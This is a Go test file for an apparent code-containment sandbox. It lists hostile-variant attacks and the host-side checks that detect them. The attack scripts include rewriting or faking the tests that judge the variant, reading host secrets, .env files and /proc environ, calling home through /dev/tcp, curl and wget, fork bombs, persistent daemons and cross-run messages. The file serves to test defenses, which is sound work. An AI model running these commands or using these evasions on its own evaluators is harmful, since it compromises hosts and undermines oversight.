// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"errors"
	"os"
	"path/filepath"
	"strings"

	"github.com/evoseal/containment/allowlist"
	"github.com/evoseal/containment/executor"
)

// attack is one thing that a hostile variant tries.
type attack struct {
	name  string
	needs executor.Capability // what it is aimed at; 0: something that holds whatever the executor claims
	// Exactly one of the two. A script is the variant's code and runs; edits reach for files that are not the variant's.
	script func(s *scene) string
	first  func(s *scene) string // the code of a run before it; nil: none
	edits  func(s *scene) ([]allowlist.Edit, error)
	// plain does what a program does that writes whatever it is told; nil: it writes the edits, or runs the script.
	plain func(s *scene) error
	// effect looks on the host whether the attack had one, and says what was seen.
	effect func(s *scene, o *observation) (bool, string)
}

func text(script string) func(*scene) string {
	return func(s *scene) string { return s.fill(script) }
}

// attacks lists them: first those on the way into the tree, then those of code that runs.
func attacks() []attack { return append(onTree(), atWork()...) }

func onTree() []attack {
	return []attack{
		{name: "edits the tests that judge it", edits: func(s *scene) ([]allowlist.Edit, error) {
			return []allowlist.Edit{s.modify(compareFile, "exit 0\n")}, nil
		}, effect: changed(compareFile)},
		{name: "plants a git hook", edits: func(s *scene) ([]allowlist.Edit, error) {
			return []allowlist.Edit{create(".git/hooks/post-checkout", "#!/bin/sh\n")}, nil
		}, effect: exists(".git/hooks/post-checkout")},
		{name: "writes outside of the tree", edits: func(s *scene) ([]allowlist.Edit, error) {
			return []allowlist.Edit{create("src/../../escape", "x\n")}, nil
		}, effect: exists("../escape")},
		{
			name: "plants a symbolic link",
			edits: func(s *scene) ([]allowlist.Edit, error) {
				return allowlist.ParsePatch([]byte("diff --git a/src/link b/src/link\nnew file mode 120000\n--- /dev/null\n"+
					"+++ b/src/link\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n"), s.tree)
			},
			plain:  func(s *scene) error { return os.Symlink("/etc", filepath.Join(s.dir, "src/link")) },
			effect: exists("src/link"),
		},
		{name: "floods the tree", edits: func(s *scene) ([]allowlist.Edit, error) {
			return []allowlist.Edit{create("src/big", strings.Repeat("x\n", 4<<20))}, nil
		}, effect: exists("src/big")},
		{
			name: "writes behind the guard's back",
			edits: func(s *scene) ([]allowlist.Edit, error) {
				err := os.WriteFile(filepath.Join(s.dir, compareFile), []byte("exit 0\n"), 0o644)
				return []allowlist.Edit{s.modify(workFile, "echo wrong > answer\n")}, err
			},
			effect: changed(compareFile),
		},
	}
}

// atWork are attacks of code that runs. What stands in braces is filled in by the scene.
func atWork() []attack {
	return []attack{
		{name: "patches the tests while they run", needs: executor.ProtectedReadOnly, effect: accepted, script: text(`
			chmod -R u+w gate; echo exit 0 > gate/compare.sh
			mv gate gate.old; mkdir gate; echo exit 0 > gate/compare.sh`)},
		{name: "fakes the report and kills the tests", effect: believed, script: text(`
			printf '1..1\nok 1 - all tests passed\n'; kill -9 $PPID; sleep 1`)},
		{name: "reads a file of the host", needs: executor.HostFilesHidden, effect: stolen, script: text(`cat {secret}`)},
		{name: "reads .env beside its code", effect: stolen, script: text(`cat .env src/../.env`)},
		{name: "reads variables of other processes", needs: executor.HostEnvHidden, effect: stolen,
			script: text(`cat /proc/[0-9]*/environ | tr '\0' '\n' | grep secret-`)},
		{name: "hands out a link as its result", effect: stolen,
			script: text(`mkdir report; ln -s {secret} report/a; ln {secret} report/b; ln -s {secretdir} report/c`)},
		{name: "calls home", needs: executor.NetworkOff, effect: called, script: text(`
			bash -c 'echo {tag} > /dev/tcp/127.0.0.1/{port}' ||
			perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("127.0.0.1:{port}")} "{tag}\n"' ||
			curl -m 2 http://127.0.0.1:{port}/{tag} || wget -T 2 -O - http://127.0.0.1:{port}/{tag}`)},
		{name: "overwrites a file of the host", needs: executor.WorkspaceIsolated, effect: overwritten,
			script: text(`echo owned > {victimfile}; rm -f {victimfile}; mv {victimfile} {victimfile}.gone`)},
		{name: "kills a process of the host", needs: executor.UnprivilegedUser, effect: killed, script: text(`kill -9 {victim}`)},
		{name: "forks 200 times", needs: executor.ProcessesBounded, effect: tooMany,
			script: text(`i=0; while [ $i -lt 200 ]; do sleep 2{number} & i=$((i+1)); done; wait`)},
		{name: "leaves a daemon", needs: executor.TreeKilled, effect: leftOver, script: text(`
			setsid sh -c 'trap "" TERM HUP; exec sleep 60{number}' > /dev/null 2>&1 < /dev/null & sleep 0.3`)},
		{name: "floods its output", needs: executor.OutputBounded, effect: flooded,
			script: text(`head -c 33554432 /dev/zero`)},
		{name: "takes 256 MiB of memory", needs: executor.MemoryBounded, effect: claimed("268435456\n"),
			script: text(`head -c 268435456 /dev/zero | tail -c 268435456 | wc -c`)},
		{name: "writes 96 MiB to the disk", needs: executor.DiskBounded, effect: claimed("100663296\n"),
			script: text(`head -c 100663296 /dev/zero > big; wc -c < big`)},
		{name: "leaves a message for the next run", effect: stolen, first: text(`
			for d in /tmp /var/tmp /dev/shm "$HOME" "$TMPDIR"; do echo {canary} > "$d/{tag}"; done`), script: text(`
			for d in /tmp /var/tmp /dev/shm "$HOME" "$TMPDIR"; do cat "$d/{tag}"; rm -f "$d/{tag}"; done`)},
	}
}

// The effects. Each is seen from outside of the variant.

func changed(name string) func(*scene, *observation) (bool, string) {
	return func(s *scene, _ *observation) (bool, string) {
		got, err := os.ReadFile(filepath.Join(s.dir, name))
		return err != nil || string(got) != files[name], name + " of the tree is now: " + string(got)
	}
}

func exists(name string) func(*scene, *observation) (bool, string) {
	return func(s *scene, _ *observation) (bool, string) {
		_, err := os.Lstat(filepath.Join(s.dir, name))
		return !errors.Is(err, os.ErrNotExist), name + " exists"
	}
}

func accepted(_ *scene, o *observation) (bool, string) {
	return o.passed, "the tests passed, although the answer is wrong"
}

// believed: on a plain process somebody reads the output, through a boundary a judge keeps the variant.
func believed(_ *scene, o *observation) (bool, string) {
	return o.passed || o.plain && strings.Contains(o.output, "ok 1 - all tests passed"), "it was believed"
}

// claimed takes the variant at its word where it says that it has done harm.
func claimed(word string) func(*scene, *observation) (bool, string) {
	return func(_ *scene, o *observation) (bool, string) {
		return strings.Contains(o.output, word), "it printed " + word
	}
}

func stolen(s *scene, o *observation) (bool, string) {
	return strings.Contains(o.output, s.canary), "the secret came out"
}

func called(s *scene, _ *observation) (bool, string) {
	return s.listener.heard(), "the host's listener heard it"
}

func overwritten(s *scene, _ *observation) (bool, string) {
	got, err := os.ReadFile(s.victimFile)
	return err != nil || string(got) != victimText, "the file of the host changed"
}

func killed(s *scene, _ *observation) (bool, string) {
	return !s.victim.alive(), "the process of the host is dead"
}

func tooMany(_ *scene, o *observation) (bool, string) {
	return o.most > 2*maxProcesses, "more processes at one time than twice the limit"
}

func leftOver(s *scene, o *observation) (bool, string) {
	return o.left > 0, "a process was alive afterwards"
}

func flooded(_ *scene, o *observation) (bool, string) {
	return o.kept > 4*maxOutput, "the host took more than four times the limit"
}
